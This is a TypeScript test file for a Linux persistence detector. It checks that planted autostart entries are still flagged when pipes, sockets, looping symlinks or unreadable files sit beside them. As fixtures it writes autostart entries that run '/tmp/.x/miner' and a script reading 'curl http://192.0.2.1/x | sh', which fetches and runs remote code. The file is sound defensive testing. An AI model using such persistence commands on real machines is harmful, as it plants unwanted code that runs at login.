import { execFileSync } from 'node:child_process'
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { createPersistenceDetector } from '../../main/probe/detectors/persistence.ts'
import { createPersistence } from '../../main/probe/sources/state/persistence.ts'
import { lookWith } from '../fakes/looking.ts'

const setUp = async () => {
  const root = mkdtempSync(join(tmpdir(), 'hostile-'))
  const autostart = join(root, 'home/sato/.config/autostart')
  mkdirSync(autostart, { recursive: true })
  const watch = await lookWith(createPersistence({ platform: 'linux', root }), 30_000, {
    data: join(root, 'home/sato'),
  })
  const told = async () => {
    const detector = createPersistenceDetector()
    return Object.fromEntries(
      (await watch.look()).map((e) => [
        `${e.action} ${e.subject.split('/').at(-1)}`,
        detector.onEvent(e)[0]?.severity ?? 'gathered',
      ]),
    )
  }
  const plant = (name: string, command: string) =>
    writeFileSync(join(autostart, name), `[Desktop Entry]\nExec=${command}\n`)
  return { ...watch, root, autostart, told, plant, at: (name: string) => join(autostart, name) }
}

describe.skipIf(process.platform === 'win32')('what a plain user may put beside an autostart entry', () => {
  test('a pipe and a socket stop nothing and are a thing to look at', async () => {
    const { told, plant, at } = await setUp()
    execFileSync('mkfifo', [at('f')])
    symlinkSync(at('f'), at('to-f'))
    const server = createServer().listen(at('s'))
    await new Promise((r) => server.once('listening', r))
    plant('z.desktop', '/tmp/.x/miner')
    expect(await told()).toEqual({
      'added f': 'check',
      'added to-f': 'check',
      'added s': 'check',
      'added z.desktop': 'check',
    })
    expect(await told()).toEqual({})
    server.close()
    rmSync(at('f'))
    expect(await told()).toMatchObject({ 'removed f': 'gathered' })
  })
  test('links to a folder, to themselves, to nothing and to a mask hide nothing', async () => {
    const { told, plant, at, bench } = await setUp()
    symlinkSync('/usr', at('folder'))
    symlinkSync('l', at('l'))
    symlinkSync('/nowhere', at('nowhere'))
    symlinkSync('/dev/null', at('mask'))
    symlinkSync('/dev/zero', at('zero'))
    symlinkSync('/tmp', at('temporary'))
    plant('z.desktop', '/tmp/.x/miner')
    expect(await told()).toEqual({
      'added folder': 'gathered',
      'added l': 'gathered',
      'added nowhere': 'gathered',
      'added mask': 'gathered',
      'added zero': 'check',
      'added temporary': 'check',
      'added z.desktop': 'check',
    })
    expect(bench.states.at(-1)?.state).toBe('watching')
  })
  test('a folder in a loop blinds only itself, and says so', async () => {
    const { root, autostart, told, bench } = await setUp()
    const scripts = join(root, 'home/sato/.config/autostart-scripts')
    mkdirSync(scripts)
    writeFileSync(join(autostart, 'old.desktop'), '[Desktop Entry]\nExec=old\n')
    await told()
    rmSync(autostart, { recursive: true })
    symlinkSync('autostart', autostart)
    writeFileSync(join(scripts, 'new'), 'curl http://192.0.2.1/x | sh\n')
    // What cannot be looked at any more is not gone.
    expect(await told()).toEqual({ 'added new': 'check' })
    expect(bench.states.at(-1)).toMatchObject({
      state: 'partly',
      reason: { code: 'places-unread', params: { count: 1 } },
    })
  })
  test.skipIf(process.getuid?.() === 0)('a file that may not be read hides nothing beside it', async () => {
    const { told, plant, at, bench } = await setUp()
    plant('closed.desktop', 'true')
    chmodSync(at('closed.desktop'), 0o000)
    plant('z.desktop', '/tmp/.x/miner')
    expect(await told()).toEqual({ 'added closed.desktop': 'gathered', 'added z.desktop': 'check' })
    expect(bench.states.at(-1)?.state).toBe('partly')
    chmodSync(at('closed.desktop'), 0o600)
    await told()
    expect(bench.states.at(-1)?.state).toBe('watching')
  })
})
